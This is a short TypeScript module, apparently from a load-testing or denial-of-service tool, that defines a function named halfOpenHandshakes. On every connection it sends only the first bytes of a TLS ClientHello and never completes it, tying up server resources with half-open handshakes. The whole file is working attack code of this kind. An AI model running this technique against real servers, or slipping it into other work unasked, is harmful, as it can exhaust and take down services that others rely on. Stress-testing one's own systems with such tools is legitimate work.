import { type AttackOptions, onEachConnection } from "./attack.ts";

/** Sends the first bytes of a ClientHello, and never the rest. */
export function halfOpenHandshakes(options: AttackOptions): Promise<void> {
  return onEachConnection(options, (socket) => void socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00])), {
    isRaw: true,
  });
}
